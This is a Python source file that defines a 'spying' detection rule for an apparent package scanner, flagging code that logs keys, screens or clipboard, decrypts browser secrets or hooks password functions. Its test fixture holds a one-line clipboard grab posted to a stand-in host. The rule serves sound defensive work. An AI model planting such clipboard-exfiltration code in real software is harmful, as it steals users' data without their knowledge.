"""Keys, screens, clipboards or browsers are read."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import HOLD, REVIEW, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for spy in view.of(v.SPY, by_itself=True):
        yield Hit(f"it watches the user ({spy.detail}) without being called", (spy,), HOLD)
    for spy, net, _, _ in view.pairs((v.SPY,), (v.NET,)):
        yield Hit(
            f"it watches the user ({spy.detail}) and reaches {net.detail or 'the network'}", (spy, net), HOLD
        )
    for place, way, _, near in view.pairs((v.INTERCEPT,), (v.NET, v.DNS, v.PROC), by_itself=True, near=False):
        how = f"reaches {way.detail or 'the network'}" if way.kind != v.PROC else "starts a process"
        yield Hit(f"it takes the place of {place.detail} and {how}", (place, way), HOLD if near else REVIEW)


RULE = Rule(
    name="spying",
    description=(
        "It records keys, screens or the clipboard, or decrypts a browser's secrets, by itself or next to "
        "a request; or it takes the place of a function that passwords or requests go through, and sends "
        "something."
    ),
    grade=HOLD,
    find=_find,
    fires={
        "acme/__init__.py": (
            "import pyperclip, requests\n\ndef go():\n"
            "    requests.post('https://example.test', data=pyperclip.paste())\n"
        )
    },
    quiet={"acme/__init__.py": "import pyperclip\n\ndef paste():\n    return pyperclip.paste()\n"},
    rates="39 per 1,000 malicious clusters, none of 200 popular archives",
)
